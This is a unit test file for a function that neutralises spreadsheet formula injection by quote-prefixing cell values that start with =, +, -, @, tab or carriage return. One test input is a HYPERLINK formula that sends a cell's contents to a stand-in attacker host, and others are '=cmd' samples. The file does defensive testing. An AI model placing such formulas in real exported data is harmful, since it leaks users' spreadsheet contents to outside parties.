import { describe, expect, it } from 'vitest';
import { neutralizeSpreadsheetFormula } from './spreadsheet-cell.js';

describe('neutralizeSpreadsheetFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+49 171 555', "'+49 171 555"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
    ['=HYPERLINK("http://evil.example?x="&A1)', '\'=HYPERLINK("http://evil.example?x="&A1)'],
  ])('escapes %j', (input, expected) => {
    expect(neutralizeSpreadsheetFormula(input)).toBe(expected);
  });

  it.each(['Müller GmbH', '', ' =1 (leading space)', "'already quoted", 'a=b', '12,50'])('leaves %j alone', (input) => {
    expect(neutralizeSpreadsheetFormula(input)).toBe(input);
  });
});
